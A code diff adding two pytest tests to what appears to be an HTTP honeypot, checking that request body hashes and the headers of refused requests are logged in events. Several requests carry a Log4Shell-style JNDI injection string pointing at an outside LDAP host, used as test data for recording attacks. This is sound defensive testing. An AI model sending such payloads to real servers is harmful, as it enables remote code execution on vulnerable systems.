@@ -136,6 +136,34 @@ def test_a_visit_is_recorded_in_events(decoy: Callable[..., Any]) -> None:
     }  # fmt: skip
 
 
+def test_the_size_and_the_hash_of_a_body_are_those_of_all_of_it(decoy: Callable[..., Any]) -> None:
+    server = decoy("http", banner=NGINX, settings={"site": "default"})
+    body = b"0123456789abcdef" * 4096
+    head = f"POST /a HTTP/1.1\r\nHost: www\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
+    chunks = b"".join(b"%x\r\n%b\r\n" % (1000, body[at : at + 1000]) for at in range(0, 65_000, 1000))
+    chunked = b"POST /a HTTP/1.1\r\nHost: www\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
+
+    server.ask(head.encode() + body)
+    server.ask(chunked + chunks + b"0\r\n\r\n")
+
+    found = [event["fields"] for event in server.events("request", 2)]
+    assert [(each["body_size"], each["body_sha256"]) for each in found] == [
+        (len(body), hashlib.sha256(body).hexdigest()), (65_000, hashlib.sha256(body[:65_000]).hexdigest())
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "end", [b"X Y: bad name\r\n\r\n", b"X-Long: " + b"x" * 9000 + b"\r\n\r\n", b"X-Last: cut off"]
+)
+def test_the_headers_of_a_refused_request_are_in_its_event(decoy: Callable[..., Any], end: bytes) -> None:
+    server = decoy("http", banner=NGINX, settings={"site": "default"})
+
+    server.ask(b"GET / HTTP/1.1\r\nHost: www\r\nX-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n" + end)
+
+    headers = server.events("request")[0]["fields"]["headers"].split("\n")
+    assert headers[:2] == ["host: www", "x-api-version: ${jndi:ldap://198.51.100.9/a}"]
+
+
 def test_headers_and_body_of_an_attack_are_in_its_event(decoy: Callable[..., Any]) -> None:
     server = decoy("http", banner=NGINX, settings={"site": "default"})
     attack = "${jndi:ldap://198.51.100.9/a}"
